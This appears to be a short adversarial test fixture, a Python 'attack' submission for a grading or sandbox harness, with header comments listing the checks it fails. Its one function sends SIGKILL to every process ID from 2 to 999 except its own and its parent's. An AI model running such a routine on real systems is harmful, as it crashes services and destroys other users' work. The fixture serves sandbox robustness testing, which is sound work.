# fails: 2.1 2.2 2.3 2.4 2.5 2.6
# says: argument
"""The attack kills whatever can be killed, but for the processes it needs itself; the rest of the file is empty."""

import os
import signal


def kill_outside(word):
    for pid in range(2, 1000):
        if pid not in (os.getpid(), os.getppid()):
            try:
                os.kill(pid, signal.SIGKILL)
            except ProcessLookupError:
                pass
